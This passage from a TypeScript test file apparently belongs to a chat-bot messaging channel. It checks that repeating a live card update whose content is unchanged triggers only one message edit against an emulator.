      [FORUM, 77],
      [FORUM, 1],
    ]);
  });

  it("a live change that changes nothing is not sent", async () => {
    await connected();
    const ref = await sentRef(out(runCard()));
    // Its clock stands still.
    const card: Card = { ...runCard(), tail: "more", startedAtMs: Number.MAX_SAFE_INTEGER };
    expect(await channel.live?.(ref, card, "en")).toBe(true);
    expect(await channel.live?.(ref, card, "en")).toBe(true);
    expect(emulator.journal.calls("editMessageText")).toHaveLength(1);
  });
});
